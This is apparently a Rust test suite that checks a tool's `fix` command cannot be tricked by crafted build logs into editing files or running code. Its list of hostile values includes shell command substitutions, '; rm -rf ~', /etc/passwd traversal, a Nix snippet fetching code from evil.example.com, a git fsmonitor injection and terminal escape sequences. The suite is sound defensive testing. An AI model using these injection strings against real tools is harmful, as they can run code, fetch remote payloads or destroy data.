//! Logs that somebody wrote to make `fix` do harm: nothing that a log says becomes code, and nothing is changed.

use std::{collections::BTreeMap, fs, path::PathBuf};

use walkdir::WalkDir;

use crate::lab::Lab;

const NIX: &str = "let pkgs = import ./pkgs.nix; in\n{\n  a = pkgs.elxir_1_17;\n}\n";

const HASH: &str = "sha256-q8b9WV/AedMRTUtxpNhLHR0Ped8ecPiBMhLypl2JFt8=";

/// What a log may hold where a tool writes a name, a path or a hash.
fn hostile_values() -> Vec<String> {
    let mut values: Vec<String> = [
        "$(touch x)",
        "`touch x`",
        "; rm -rf ~",
        "--option",
        "--option post-build-hook ./evil",
        "../../etc/passwd",
        "/etc/passwd",
        "../outside.nix",
        "~/outside.nix",
        ".git/config",
        ".git/hooks/pre-commit.nix",
        ".hidden/evil.nix",
        "link.nix",
        "*",
        "f*.nix",
        "**/*.nix",
        "[f]lake.nix",
        "${builtins.readFile ./flake.nix}",
        "${attribute}",
        "elixir_1_17;y=(import(builtins.fetchTarball(\"http://evil.example.com\")))",
        "elixir_1_17\"; evil = \"",
        "fsmonitor=\"touch${IFS}x;true\"",
        "\u{1b}[2J\u{1b}]0;title\u{7}\u{1b}[8m",
        "\u{202e}txt.nix",
        "\0",
        "",
        " ",
    ]
    .map(str::to_owned)
    .to_vec();
    values.push("A".repeat(1 << 20));
    values
}

/// Such a value at each place in which a tool's own words can hold it.
fn logs_with(value: &str) -> Vec<String> {
    let attribute = |name: &str, file: &str, line: u32, column: u32, suggestion: &str| {
        format!(
            "error: attribute '{name}' missing\n       at {file}:{line}:{column}:\n       Did you mean {suggestion}?\n"
        )
    };
    let mismatch = |drv: &str, specified: &str, got: &str| {
        format!(
            "error: hash mismatch in fixed-output derivation '{drv}':\n         specified: {specified}\n            got:    {got}\n"
        )
    };
    let drv = "/nix/store/xjvlx6ji5nnbpxm0nzkg08myshhpxpdj-source.drv";
    vec![
        attribute("elxir_1_17", "flake.nix", 3, 7, value),
        attribute("elxir_1_17", "/nix/store/xjvlx6ji5nnbpxm0nzkg08myshhpxpdj-source/flake.nix", 3, 7, value),
        attribute("elxir_1_17", value, 3, 7, "elixir_1_17"),
        attribute("filemode", value, 3, 1, "filmode"),
        attribute(value, "flake.nix", 3, 7, "elixir_1_17"),
        attribute(value, value, 3, 7, value),
        format!(
            "error: attribute '{value}' in selection path '{value}' not found\n       Did you mean {value}?\n"
        ),
        mismatch(drv, HASH, value),
        mismatch(drv, value, HASH),
        mismatch(value, value, value),
        format!("error: undefined variable '{value}'\n       at {value}:3:7:\n"),
        format!("error: syntax error, unexpected '{value}', expecting ';'\n       at {value}:3:7:\n"),
        format!(
            "error: flake '{value}' does not provide attribute '{value}'\n       Did you mean {value}?\n"
        ),
        format!("** (Mix) No package with name {value} (from: {value}) in registry\n"),
    ]
}

/// Everything in the lab, but what belongs to the tools themselves.
fn tree(lab: &Lab) -> BTreeMap<PathBuf, Vec<u8>> {
    let walk = WalkDir::new(lab.path("")).into_iter().filter_entry(|entry| entry.path() != lab.state());
    let entries = walk.map(Result::unwrap);
    let content = |path: &std::path::Path| match fs::read_link(path) {
        Ok(link) => link.into_os_string().into_encoded_bytes(),
        Err(_) => fs::read(path).unwrap_or_default(),
    };
    entries.map(|entry| (entry.path().to_owned(), content(entry.path()))).collect()
}

fn project() -> Option<Lab> {
    let lab = Lab::host(&["git"])?;
    lab.run(&["git", "init", "--quiet"]).exits(0);
    for file in ["flake.nix", "hash.nix", ".hidden/evil.nix", ".git/hooks/pre-commit.nix"] {
        lab.write(file, NIX);
    }
    lab.write("hash.nix", &format!("{{ hash = \"{HASH}\"; }}\n"));
    fs::write(lab.path("outside.nix"), NIX).unwrap();
    fs::write(lab.path("home/outside.nix"), NIX).unwrap();
    std::os::unix::fs::symlink("../outside.nix", lab.project().join("link.nix")).unwrap();
    Some(lab)
}

#[test]
fn no_log_changes_anything() {
    let Some(lab) = project() else { return };
    let before = tree(&lab);
    let log = lab.path("hostile.log");
    for value in hostile_values() {
        for text in logs_with(&value) {
            fs::write(&log, &text).unwrap();
            let fixed = lab.doctor(&["fix", "--yes=system", "--log", "../hostile.log"]);
            fs::remove_file(&log).unwrap();
            let shown: String = text.chars().take(500).collect();
            fixed.must(!fixed.all().contains('\u{1b}'), &format!("no escapes from {shown:?}"));
            let after = tree(&lab);
            let changed: Vec<_> =
                after.iter().filter(|(path, bytes)| before.get(*path) != Some(bytes)).collect();
            fixed.must(changed.is_empty() && after.len() == before.len(), &format!("{shown:?}: {changed:?}"));
        }
    }
}

/// The same log with an honest suggestion does change the file, so the test above tries the right place.
#[test]
fn an_honest_log_changes_one_name() {
    let Some(lab) = project() else { return };
    let before = tree(&lab);
    for (file, wrong, right) in [
        ("flake.nix", "pkgs.elxir_1_17", "pkgs.elixir_1_17"),
        ("hash.nix", HASH, "sha256-WJG1tSLV3whtD/CxEPvZ0hu0/HFjrzTQgoai6Eb2vgM="),
    ] {
        let [attribute, .., mismatch] = &logs_with(right.trim_start_matches("pkgs."))[..8] else { panic!() };
        lab.write("honest.log", if file == "flake.nix" { attribute } else { mismatch });
        lab.doctor(&["fix", "--yes=project", "--log", "honest.log"]).exits(3).shows_diff(wrong, right);
        let text = String::from_utf8(before[&lab.project().join(file)].clone()).unwrap();
        assert_eq!(lab.read(file), text.replace(wrong, right));
    }
}

/// Git's configuration names programs that Git runs.
#[test]
fn git_is_left_alone_by_any_rule() {
    let Some(lab) = project() else { return };
    lab.write(
        "rules/any-word.yaml",
        r#"id: any-word
title: A word is wrong
severity: error
family: house
since: 0.1.0
explanation: A rule with an edit of the most general kind.
symptoms: ['the word (?<word>\S+) in (?<file>\S+) must be (?<right>\S+)']
remedies:
  - title: Replace it
    risk: project
    edit: {find: "${word}", replace: "${right}", in: ["${file}"]}
examples: [the word a in b must be c]
"#,
    );
    let before = tree(&lab);
    let log = lab.path("word.log");
    for file in [".git/config", ".git/../.git/config", "../outside.nix", "link.nix", "*/config", "f*.nix"] {
        fs::write(&log, format!("the word filemode in {file} must be fsmonitor\n")).unwrap();
        let fixed = lab.doctor(&["fix", "--yes=system", "--rules", "rules", "--log", "../word.log"]);
        fixed.exits(1).shows("any-word").shows("not done");
        fs::remove_file(&log).unwrap();
        assert_eq!(tree(&lab), before, "{file}");
    }
    lab.write("settings.ini", "filemode = true\n");
    fs::write(&log, "the word filemode in settings.ini must be fsmonitor\n").unwrap();
    lab.doctor(&["fix", "--yes=project", "--rules", "rules", "--log", "../word.log"]).exits(3);
    assert_eq!(lab.read("settings.ini"), "fsmonitor = true\n");
}
